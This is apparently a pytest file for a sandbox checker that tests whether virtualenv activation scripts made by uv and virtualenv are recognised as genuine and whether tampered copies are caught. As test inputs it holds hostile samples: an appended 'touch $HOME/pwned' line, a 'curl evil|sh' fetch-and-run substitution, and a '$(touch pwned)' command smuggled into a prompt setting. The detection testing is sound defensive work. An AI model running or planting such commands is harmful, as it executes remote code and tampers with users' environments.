"""venvshapes.py: the files uv venv and virtualenv write are known by their shape; a planted line, a prompt
or path that is not plain, or a file of another shape is not. Real venvs made by the tools when they are here
(`uv` / `virtualenv` on PATH, or HERMES_TEST_UV / HERMES_TEST_VIRTUALENV)."""

from __future__ import annotations

import os
import shlex
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from hermes_agent.terminal.sandbox.runlater import bin_risky
from hermes_agent.terminal.sandbox.venvshapes import known_file, shape_digest

UV = os.environ.get("HERMES_TEST_UV") or shutil.which("uv")
VIRTUALENV = os.environ.get("HERMES_TEST_VIRTUALENV") or shutil.which("virtualenv")
MAKERS = [pytest.param([UV, "venv", "-q", "--no-cache", "--python", sys.executable] if UV else None, id="uv",
                       marks=pytest.mark.skipif(not UV, reason="no uv here")),
          pytest.param([*shlex.split(VIRTUALENV), "-q", "--no-seed", "-p", sys.executable] if VIRTUALENV else None,
                       id="virtualenv", marks=pytest.mark.skipif(not VIRTUALENV, reason="no virtualenv here"))]


def _never(_path: str) -> bool:
    return False


@pytest.mark.parametrize("make", MAKERS)
@pytest.mark.parametrize("prompt", [[], ["--prompt", "web app"], ["--prompt", "api"]])
def test_every_file_the_tool_writes_is_known_and_a_planted_line_is_not(tmp_path: Path, make, prompt):
    venv = tmp_path / "proj" / ".venv"
    subprocess.run([*make, *prompt, str(venv)], check=True, capture_output=True, timeout=120)
    files = [f for f in (venv / "bin").iterdir() if f.is_file() and not f.is_symlink()]
    assert any(f.name == "activate" for f in files)
    for f in files:
        data = f.read_bytes()
        assert known_file(str(venv), data), f.name
        assert bin_risky(str(venv), f.name, data, _never) == "", f.name
        planted = data + b"\ntouch $HOME/pwned\n"
        assert not known_file(str(venv), planted), f.name
        assert bin_risky(str(venv), f.name, planted, _never), f.name
        changed = data.replace(b"deactivate", b"curl evil|sh", 1)
        if changed != data:
            assert not known_file(str(venv), changed), f.name


@pytest.mark.parametrize("make", MAKERS)
def test_a_prompt_that_is_not_plain_is_never_taken_out(tmp_path: Path, make):
    venv = tmp_path / "v"
    subprocess.run([*make, str(venv)], check=True, capture_output=True, timeout=120)
    data = (venv / "bin" / "activate").read_bytes()
    cfg = venv / "pyvenv.cfg"
    cfg.write_text(cfg.read_text() + "prompt = $(touch pwned)\n")
    assert shape_digest(str(venv), data) is None and not known_file(str(venv), data)


def test_a_file_of_no_known_shape_is_unknown(tmp_path: Path):
    venv = tmp_path / "v"
    (venv / "bin").mkdir(parents=True)
    (venv / "pyvenv.cfg").write_text("home = /usr/bin\nversion_info = 3.11.7\n")
    assert not known_file(str(venv), b"#!/bin/sh\nexport VIRTUAL_ENV=" + str(venv).encode() + b"\n")
